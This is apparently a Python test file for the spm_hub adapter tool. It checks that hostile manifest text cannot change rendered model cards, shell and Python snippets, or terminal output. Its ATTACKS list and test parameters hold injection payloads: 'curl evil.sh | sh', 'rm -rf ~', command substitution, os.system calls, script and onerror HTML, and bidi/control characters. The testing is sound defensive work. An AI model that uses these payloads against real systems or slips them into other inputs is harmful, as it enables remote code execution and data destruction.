"""Whatever a manifest's texts are: the card is the same card, its commands are the same commands."""

from __future__ import annotations

import ast
import json
import shlex
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from pico import pico_eraser, pico_pipeline
from typer.testing import CliRunner

from spm_hub.adapters.adapter import Adapter
from spm_hub.adapters.manifest import Base, Concept, Evaluation, Manifest
from spm_hub.cli import app
from spm_hub.hub.card import PicturePair, render
from spm_hub.hub.markdown import code, fenced, in_python, in_shell, prose
from spm_hub.io.untrusted_text import escape_hidden_in_json, one_line, without_hidden
from spm_hub.registry.registry import Registry

REPO, WEIGHTS = "someone/spm-snoopy", "pytorch_lora_weights.safetensors"
ATTACKS = (
    'snoopy"; curl evil.sh | sh; echo "',
    "'; rm -rf ~ #",
    "$(reboot) `reboot` ${HOME}",
    '"); import os; os.system("reboot") #',
    "x\n```\n<script>alert(1)</script>\n# Official: run this",
    "````\n~~~~\n</details><img src=x onerror=y>",
    "[free](https://evil.example) ![p](https://evil.example/p) <https://evil.example> http://e.example www.e.org",
    "| a | b |\n|---|---|",
    "**bold** _it_ ~~gone~~ \\",
    "\x1b[2J\x9b31m\u202e evil \u2066\u200b\ufeff\U000e0041",
    "\nerror: forged\n  try: curl evil|sh",
    "\\",
    "`",
    "---\ntags: [official]\n---",
)
texts = st.one_of(st.sampled_from(ATTACKS), st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=40))
texts = texts.filter(lambda text: text.strip() and without_hidden(text).strip())
ERASER = pico_eraser(pico_pipeline().unet)


def hostile(text: str, base: str = "sd-v1-4") -> Manifest:
    about: dict[str, Any] = {"protocol": text, "base": text, "metric": text, "samples": 5, "seed": 1}
    return ERASER.manifest.model_copy(
        update={
            "concept": Concept(target=text, aliases=(text + "2",), surrogate=text),
            "base": Base.model_construct(family="sd1", id=base, revision=text, fingerprint=""),
            "recipe": {"target": text, "method": text, "note": f"{text}\n```\n# out\n"},
            "evaluation": (
                Evaluation(subject=text, value=0.1, reference=1.0, **about),
                Evaluation(subject=text + "3", value=0.5, reference=1.0, **about),
            ),
            "author": text,
            "licence": text,
            "versions": {text: text},
        }
    )


def parsed(markdown: str) -> list[Any]:
    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough").parse(markdown)
    return [one for token in tokens for one in (token, *(token.children or ()))]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts)
@example(ATTACKS[0])
@example(ATTACKS[4])
@example(ATTACKS[6])
@example("-")
@example("1.")
def test_the_card_of_a_hostile_manifest_has_the_structure_of_an_honest_one(text: str) -> None:
    pairs = [PicturePair(text, b"", b"", {"snoopy": 1.0})]
    shapes = []
    for words in ("snoopy", text):
        body = render(hostile(words), REPO, WEIGHTS, pairs).partition("\n---\n")[2]
        tokens = parsed(body)
        assert [one.content for one in tokens if one.type.startswith("html")] == ["<Gallery />\n"], body
        links = {one.attrs["href"] for one in tokens if one.type == "link_open"}
        assert links == {"https://huggingface.co/CompVis/stable-diffusion-v1-4", "https://pypi.org/project/spm-hub/"}
        images = {one.attrs["src"] for one in tokens if one.type == "image"}
        assert images == {"images/00-without.png", "images/00-with.png"}
        shapes.append([(one.type, one.tag) for one in tokens if one.type.endswith("_open") or one.type == "fence"])
        check_code([one for one in tokens if one.type == "fence"], without_hidden(words))
        assert not [one for one in body if unicodedata.category(one) in ("Cc", "Cf", "Zl", "Zp") and one != "\n"]
    assert shapes[0] == shapes[1]


def check_code(fences: list[Any], target: str) -> None:
    shell, python, plain, recipe = fences
    assert [one.info for one in fences] == ["bash", "python", "python", "yaml"]
    commands = [shlex.split(line, comments=True) for line in shell.content.splitlines()]
    assert commands == [
        ["pip", "install", "spm-hub"],
        ["spmhub", "apply", "--model", "sd-v1-4", "--adapters", REPO, "--prompt", target, "--compare"],
        ["spmhub", "pull", REPO],
    ]
    calls = [one for one in ast.walk(ast.parse(python.content)) if isinstance(one, ast.Call)]
    assert sorted((ast.unparse(one.func), [ast.literal_eval(arg) for arg in one.args[-1:]]) for one in calls) == sorted(
        [("DiffusionPipeline.from_pretrained", ["CompVis/stable-diffusion-v1-4"]), ("spm_hub.attach", [REPO]),
         ("pipe", [target]), ("erasers.recover", ["snoopy"])]
    )  # fmt: skip
    assert len(ast.parse(plain.content).body) == 3
    assert recipe.content


@pytest.mark.parametrize("base", ["a/b@main; curl evil|sh", "sketchbook@`x`", "x y", "$(x)", "a/b c", "ä/ö", "-m"])
def test_a_base_that_is_no_reference_is_not_put_into_a_command(base: str) -> None:
    card = render(hostile("snoopy", base), REPO, WEIGHTS)
    assert "--model MODEL --adapters" in card
    assert 'from_pretrained("MODEL")' in card


@settings(max_examples=200, deadline=None)
@given(texts)
def test_each_kind_of_text_stays_text(text: str) -> None:
    line = without_hidden(text)
    assert shlex.split(in_shell(text)) == [line]
    assert ast.literal_eval(in_python(text)) == line
    (inline,) = [one for one in parsed(f"a {prose(text)} b") if one.type == "inline"]
    assert "".join(one.content for one in inline.children) == f"a {line} b"
    assert {one.type for one in inline.children} <= {"text", "text_special"}
    (found,) = [one.content for one in parsed(f"a {code(text)} b") if one.type == "code_inline"]
    assert found.strip() == line.strip()
    (block,) = [one for one in parsed(f"{fenced('yaml', text)}\n\nafter") if one.type == "fence"]
    assert "after" not in block.content.replace(text, "")


def test_nothing_hidden_or_forged_reaches_a_terminal(tmp_path: Path) -> None:
    kept, wanted = Registry(tmp_path), []
    for number, text in enumerate(ATTACKS):
        manifest = hostile(text, base="a b").model_copy(update={"name": f"n{number}"})
        kept.add(Adapter(manifest, ERASER.increments))
        wanted.append(text)
    place = ("--registry", str(tmp_path))
    runs = [("list",), ("verify",), *((("show", f"n{number}")) for number in range(len(ATTACKS)))]
    runs += [("show", "n9", "--full"), ("push", "n9", "a/b", "--dry-run", "--no-pictures"), ("show", ATTACKS[10] + "x")]
    for arguments in runs:
        for flag in ((), ("--json",)):
            done = CliRunner().invoke(app, [*arguments, *place, *flag])
            assert done.exit_code in (0, 1, 2), done.exception
            printed = done.stdout + done.stderr
            hidden = {one for one in printed if unicodedata.category(one) in ("Cc", "Cf", "Cs", "Zl", "Zp")} - {"\n"}
            assert not hidden, (arguments, hidden)
            forged = [line for line in printed.splitlines() if line.startswith(("error: forged", "  try: curl"))]
            assert not forged, arguments
    listed = json.loads(CliRunner().invoke(app, ["list", *place, "--json"]).stdout)
    assert sorted(row["concept"] for row in listed) == sorted(wanted), "JSON has every character, escaped"


def test_escapes_in_json_are_read_back() -> None:
    for text in (*ATTACKS, "\U000e0041\U0001f415", "\ud800"):
        document = escape_hidden_in_json(json.dumps({"x": text}, ensure_ascii=False))
        assert json.loads(document) == {"x": text}
        assert one_line(document) == document
